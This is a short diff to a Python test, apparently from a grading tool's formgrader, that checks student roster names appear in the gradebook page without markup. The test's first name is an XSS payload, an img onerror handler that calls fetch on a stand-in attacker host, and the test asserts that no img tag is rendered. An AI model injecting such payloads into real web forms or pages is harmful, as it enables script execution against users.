@@ -394,6 +394,6 @@ def test_roster_names_reach_the_formgraders_gradebook_without_markup(graded, tmp
     monkeypatch.undo()
     graded.name_students(roster)
     first, last = mallory_in_the_gradebook()
-    assert (last, first) == ("Eve", "img src=x onerror=fetch(//attacker.example)")
+    assert (last, first) == ("Eve", 'img src=x onerror="fetch(`//attacker.example`)"')
     page = _formgrader_nav(first, last)
     assert "<img" not in page and "Eve, img src=x" in page
